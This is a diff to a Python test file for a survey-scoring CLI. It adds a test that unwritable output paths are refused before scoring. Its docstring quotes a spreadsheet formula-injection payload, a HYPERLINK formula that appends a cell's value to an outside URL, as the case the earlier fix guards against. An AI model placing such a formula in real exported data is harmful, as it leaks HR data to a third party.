@@ -1,4 +1,4 @@
-"""Output people open in Excel never runs what a respondent typed (issue 14, "formula injection").
+"""Outputs are safe with real HR data: no formula reaches Excel, no input is overwritten, no late failure (issue 14).
 
 Before the fix, `=HYPERLINK("http://…?x="&A1,"click")` in a survey answer came out raw in
 CSV and as a live formula in xlsx (`score`, `redact`, the report's workbook).
@@ -126,3 +126,23 @@ def test_an_output_that_is_the_input_is_refused_before_any_work(run_cli, model_d
     code, _, err = run_cli("report", scored, "-o", tmp_path / "r.html", "--xlsx", scored, "--model", model_dir)
     assert code == 2 and "that is the input file" in err
     assert scored.read_bytes() == scored_bytes and not (tmp_path / "r.html").exists()
+
+
+def test_outputs_that_cannot_be_written_are_refused_before_scoring(run_cli, model_dir, params_file, export, tmp_path):
+    """Before the fix a missing --report or --report-xlsx folder, or `-o` naming a folder, failed only after
+    every row was scored (the folder case with a traceback), and `tag --file` given a folder was a traceback."""
+    options = ("-c", "answer", "--model", model_dir, "--params", params_file)
+    cases = [
+        (("-o", tmp_path / "out.csv", "--report", tmp_path / "nodir" / "r.html"), "does not exist"),
+        (("-o", tmp_path / "out.csv", "--report", tmp_path / "r.html", "--report-xlsx", tmp_path / "nodir" / "s.xlsx"),
+         "does not exist"),
+        (("-o", tmp_path / "folder.csv"), "is a folder"),
+    ]
+    (tmp_path / "folder.csv").mkdir()
+    for args, message in cases:
+        code, out, err = run_cli("score", export, *args, *options)
+        assert code == 2 and message in err and "Traceback" not in err, err
+        assert "rows" not in out  # refused before any scoring
+    assert not (tmp_path / "out.csv").exists() and not list(tmp_path.glob(".*partial*"))
+    code, _, err = run_cli("tag", "--file", tmp_path, "--model", model_dir, "--params", params_file)
+    assert code == 2 and "is a folder" in err
